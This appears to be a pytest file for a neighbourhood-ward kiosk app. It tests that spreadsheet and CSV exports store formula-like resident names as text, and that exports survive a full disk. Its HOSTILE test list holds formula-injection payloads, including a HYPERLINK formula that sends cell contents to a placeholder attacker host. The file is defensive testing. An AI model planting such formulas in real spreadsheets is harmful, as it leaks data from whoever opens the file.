"""Exports a spreadsheet opens safely and a full disk cannot spoil (issue 17).

Text from outside (residents' names and addresses, report rows) that starts like a formula is
written as text; every export and report is swapped in whole, so on a full disk (a real tmpfs)
the previous file survives and the command says so in one line, with no traceback.
"""
from __future__ import annotations

import hashlib
import os
import subprocess
import sys
from pathlib import Path

import openpyxl
import pytest

from kiosk.directory import contacts
from kiosk.directory import residents as directory
from kiosk.files import write_atomic
from kiosk.reports import export as report_export
from kiosk.errors import InvalidInput

TDP = str(Path(sys.executable).with_name("tdp"))
HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', "+84 912 000 111", "-2+3", "@SUM(A1:A9)",
           "\tTab", "\rCR"]


def formula_cells(path: Path) -> list:
    book = openpyxl.load_workbook(path)
    return [c.coordinate for sheet in book for row in sheet.iter_rows() for c in row if c.data_type == "f"]


def test_contacts_export_writes_hostile_names_and_addresses_as_text(store, tmp_path):
    for n, text in enumerate(HOSTILE):
        directory.upsert_resident(store, f"DK {text}" if n == 0 else text, f"09120001{n:02d}", role=text)
    directory.upsert_resident(store, "Lê Văn A", "0912000199", role="Tổ trưởng")
    out = contacts.export_contacts(store, tmp_path / "ds.xlsx")["file"]
    assert formula_cells(Path(out)) == []
    values = {c.value for row in openpyxl.load_workbook(out).active.iter_rows(min_row=4) for c in row}
    for text in HOSTILE[1:4]:        # (tabs and CRs around names are trimmed when they are stored)
        assert "'" + text in values
    assert "Lê Văn A" in values and "Tổ trưởng" in values


def test_the_ward_report_writes_outside_text_as_text(tdp, tmp_path):
    r = tdp("report", "--from", "2020-01-01", "--to", "2020-01-31", "--json")
    data = r.data
    data["requests"]["by_procedure"] = [{"name": text, "total": 1, "online": 1, "online_share": 1.0} for text in HOSTILE]
    report_export.write(data, tmp_path / "r.xlsx")
    report_export.write(data, tmp_path / "r.csv")
    assert formula_cells(tmp_path / "r.xlsx") == []
    csv_text = (tmp_path / "r.csv").read_text("utf-8-sig")
    assert "'=HYPERLINK" in csv_text and "\n=" not in csv_text and ",=" not in csv_text


@pytest.fixture
def small_disk(tmp_path):
    """A real 512 KB tmpfs (needs root; skipped elsewhere)."""
    mount = tmp_path / "disk"
    mount.mkdir()
    done = subprocess.run(["mount", "-t", "tmpfs", "-o", "size=512k", "tmpfs", str(mount)], capture_output=True)
    if done.returncode != 0:
        pytest.skip("cannot mount a tmpfs here: " + done.stderr.decode().strip())
    try:
        yield mount
    finally:
        subprocess.run(["umount", "-l", str(mount)], check=False)


def fill(disk: Path) -> None:
    try:
        with open(disk / "filler", "wb", buffering=0) as handle:
            while True:
                handle.write(b"\0" * 4096)
    except OSError:
        pass


def digest(path: Path) -> str:
    return hashlib.md5(path.read_bytes()).hexdigest()


def test_a_full_disk_keeps_the_old_contact_list_and_says_so_in_one_line(store, config_path, small_disk):
    for n in range(40):
        directory.upsert_resident(store, f"Người dân số {n}", f"09130000{n:02d}", role="Tổ viên")
    out = small_disk / "danh-sach.xlsx"
    env = {**os.environ, "TDP_CONFIG": str(config_path)}
    first = subprocess.run([TDP, "contacts", "export", str(out)], capture_output=True, text=True, env=env)
    assert first.returncode == 0, first.stderr
    before = digest(out)
    directory.upsert_resident(store, "Người mới", "0913999999")
    fill(small_disk)
    again = subprocess.run([TDP, "contacts", "export", str(out)], capture_output=True, text=True, env=env)
    assert again.returncode == 1
    assert again.stderr.strip().count("\n") == 0 and "disk is full" in again.stderr, again.stderr
    assert "Traceback" not in again.stderr and "Exception ignored" not in again.stderr
    assert digest(out) == before
    assert sorted(p.name for p in small_disk.iterdir()) == ["danh-sach.xlsx", "filler"]


def test_a_full_disk_keeps_the_old_report(tdp, small_disk):
    out = small_disk / "bao-cao.pdf"
    assert tdp("report", "--from", "2020-01-01", "--to", "2020-01-31", "--out", out).code == 0
    before = digest(out)
    fill(small_disk)
    r = tdp("report", "--from", "2020-01-01", "--to", "2020-03-31", "--out", out)
    assert r.code == 1 and "disk is full" in r.err and len(r.err.strip().splitlines()) == 1
    assert digest(out) == before


def test_write_atomic_replaces_whole_and_names_the_reason(tmp_path):
    target = tmp_path / "a.txt"
    write_atomic(target, "cũ")
    write_atomic(target, b"new")
    assert target.read_bytes() == b"new" and [p.name for p in tmp_path.iterdir()] == ["a.txt"]
    (tmp_path / "ro").mkdir(mode=0o500)
    if os.geteuid() != 0:
        with pytest.raises(InvalidInput, match="permission denied"):
            write_atomic(tmp_path / "ro" / "x.txt", "x")
    with pytest.raises(InvalidInput, match="cannot write"):
        write_atomic(tmp_path / "a.txt" / "under-a-file.txt", "x")


def test_an_export_with_formula_like_text_reads_back_unchanged(store, tmp_path):
    directory.upsert_resident(store, "=Lê Văn A", "0912000001", role="-Tổ phó")
    out = contacts.export_contacts(store, tmp_path / "ds.xlsx")["file"]
    report = contacts.import_contacts(store, out)
    assert (report.added, report.updated, report.unchanged) == (0, 0, 1)
    assert store.query("SELECT full_name, role FROM residents") == [{"full_name": "=Lê Văn A", "role": "-Tổ phó"}]
